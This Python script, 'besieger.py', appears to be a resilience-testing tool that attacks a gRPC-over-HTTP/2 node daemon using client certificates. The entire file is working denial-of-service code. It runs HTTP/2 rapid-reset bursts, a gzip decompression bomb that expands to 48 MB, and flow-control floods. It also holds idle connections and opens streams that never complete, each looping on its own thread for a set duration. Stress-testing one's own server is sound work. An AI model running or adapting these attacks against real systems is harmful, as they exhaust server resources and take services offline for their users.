"""besieger.py HOST PORT SECONDS CERTIFICATE... : all that one with a node's or an operator's certificate, or none, can do.

CERTIFICATE: PREFIX of PREFIX.crt and PREFIX.key. Each attack runs again and again on a thread of its own, until it is over,
with a pause that leaves the machine to others. Ends early by SIGTERM. Prints how often each was made: "mute 12, resets 40".
"""
import collections
import signal
import socket
import ssl
import struct
import sys
import threading
import time
import zlib

PAUSE = 0.3
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS = 0, 1, 3, 4
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4  # of the settings
WINDOW = 65535  # that a client may send before the daemon says more, of a stream and of all


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def header(name, value):
    """HPACK, neither indexed nor compressed."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def headers(stream, method, *more):
    fields = ((":method", "POST"), (":scheme", "https"), (":path", f"/ringtrue.rpc.Node/{method}"), (":authority", "x"),
              ("te", "trailers"), ("content-type", "application/grpc"), *more)
    return frame(HEADERS, END_HEADERS, stream, b"".join(header(*field) for field in fields))


def message(body, packed=0):
    return bytes([packed]) + struct.pack(">I", len(body)) + body


def field(number, body):
    """A protobuf field of bytes."""
    size, length = bytearray(), len(body)
    while length > 0x7f:
        size.append(length & 0x7f | 0x80)
        length >>= 7
    return bytes([number << 3 | 2]) + bytes(size) + bytes([length]) + body


def data(stream, body):
    return b"".join(frame(DATA, 0, stream, body[at:at + 16000]) for at in range(0, len(body), 16000))


class Besieger:
    def __init__(self, host, port, seconds, certificates):
        self.where, self.until = (host, port), time.monotonic() + seconds
        self.certificates, self.made = certificates, collections.Counter()
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        self.packed = packer.compress(field(3, field(3, b"a" * (48 << 20)))) + packer.flush()

    def connect(self, certificate, window=65535):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        context.load_cert_chain(f"{certificate}.crt", f"{certificate}.key")
        sock = context.wrap_socket(socket.create_connection(self.where, timeout=5), server_hostname=self.where[0])
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, window)))
        return sock

    @staticmethod
    def listen(sock, seconds):
        """Takes what comes, for so long at most or until the other end hangs up."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            sock.settimeout(left)
            if not sock.recv(65536):
                return

    def mute(self):
        """Connections that never say what they want."""
        opened = [socket.create_connection(self.where, timeout=5) for _ in range(64)]
        for i, sock in enumerate(opened):
            sock.sendall((b"\x16", b"", b"GET / HTTP/1.1\r\n\r\n")[i % 3])
        time.sleep(1)
        for sock in opened:
            sock.close()

    def resets(self, certificate):
        """Requests that are withdrawn at once."""
        with self.connect(certificate) as sock:
            for burst in range(20):
                streams = range(1 + 200 * burst, 201 + 200 * burst, 2)
                sock.sendall(b"".join(headers(s, "Describe") + frame(RESET, 0, s, struct.pack(">I", 8)) for s in streams))

    def bomb(self, certificate):
        """Little on the wire, and much of it once it is unpacked."""
        with self.connect(certificate) as sock:
            sock.sendall(headers(1, "Lease", ("grpc-encoding", "gzip")) + data(1, message(self.packed, 1)))
            self.listen(sock, 2)

    def swarm(self, certificate):
        """A message of as many empty ones as the window takes, for a stream that takes no answer."""
        empty = b"\x3a\0"
        with self.connect(certificate, 0) as sock:
            sock.sendall(headers(1, "Lease") + data(1, message(empty * ((WINDOW - 5) // len(empty)))))
            self.listen(sock, 2)

    def flood(self, certificate):
        """As swarm, of four megabytes: more than any window, which is not asked."""
        with self.connect(certificate, 0) as sock:
            sock.sendall(headers(1, "Lease") + data(1, message(b"\x3a\0" * (2 << 20))))
            self.listen(sock, 2)

    def starts(self, certificate):
        """Leases that begin a message and take no answer."""
        with self.connect(certificate, 0) as sock:
            for stream in range(1, 33, 2):
                sock.sendall(headers(stream, "Lease") + frame(DATA, 0, stream, b"\0\0\0\1\0"))
            self.listen(sock, 6)

    def inspections(self, certificate):
        """Readings that nobody waits for."""
        with self.connect(certificate) as sock:
            for stream in range(1, 13, 2):
                sock.sendall(headers(stream, "Inspect") + frame(DATA, END_STREAM, stream, message(b"")))
            time.sleep(0.3)

    def again(self, attack, *arguments):
        while time.monotonic() < self.until:
            self.made[attack.__name__] += 1
            try:
                attack(*arguments)
            except OSError:
                pass  # refused, or hung up on
            time.sleep(PAUSE)

    def run(self):
        attacks = [(self.mute,)] + [(attack, certificate) for certificate in self.certificates for attack in (
            self.resets, self.bomb, self.swarm, self.flood, self.starts, self.inspections)]
        threads = [threading.Thread(target=self.again, args=attack) for attack in attacks]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        print(", ".join(f"{name} {count}" for name, count in sorted(self.made.items())))

    def end(self, *_):
        self.until = 0


if __name__ == "__main__":
    besieger = Besieger(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4:])
    signal.signal(signal.SIGTERM, besieger.end)
    besieger.run()
